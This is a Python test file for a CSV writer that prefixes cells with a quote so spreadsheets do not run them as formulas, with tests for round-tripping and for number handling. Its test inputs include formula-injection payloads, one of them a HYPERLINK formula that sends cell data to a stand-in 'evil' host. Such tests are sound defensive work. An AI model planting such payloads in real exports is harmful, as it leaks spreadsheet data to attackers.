"""CSV that Python's reader gives back as it was, and in which no spreadsheet finds a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keiki.core.spreadsheet import bare, guarded, write_rows

CELLS = st.text(alphabet=st.sampled_from("a1 '\"=+-@＝.,;\t\r\n\u2028\x85é"), max_size=8)


def written(rows: list[list[str]]) -> str:
    file = io.StringIO(newline="")
    write_rows(file, rows)
    return file.getvalue()


@given(st.lists(st.lists(CELLS, min_size=2, max_size=3), max_size=4))
def test_what_is_written_is_read_again(rows: list[list[str]]) -> None:
    found = list(csv.reader(io.StringIO(written(rows), newline=""), strict=True))
    assert [[bare(cell) for cell in row] for row in found] == rows


@given(CELLS)
def test_every_guard_is_taken_off_again(cell: str) -> None:
    assert bare(guarded(cell)) == cell


@given(CELLS)
def test_no_cell_begins_a_formula_but_numbers(cell: str) -> None:
    start = guarded(cell)[:1]
    assert start not in tuple("=@＝\t\r\n")
    assert start not in tuple("+-") or re.fullmatch(r"[+-][\d.,]+", guarded(cell))


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil/?"&A1,"click")', "@SUM(1+1)", "+1 555 000", "-2+3", "\t=1", "\r=1", " =1", "＝1", "-"],
)
def test_formulas_are_guarded(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["-1.5", "+3", "-1,5", "1e-3", "-.5", "1=1", "a-b", "", "'tis", "e@mail", "photo-1.png"]
)
def test_the_rest_stays(cell: str) -> None:
    assert guarded(cell) == cell


def test_rows_end_by_a_line_feed_whatever_is_in_them() -> None:
    assert written([["a", "b\r"], ["c\r\n", 'd"']]) == 'a,"b\r"\n"c\r\n","d"""\n'
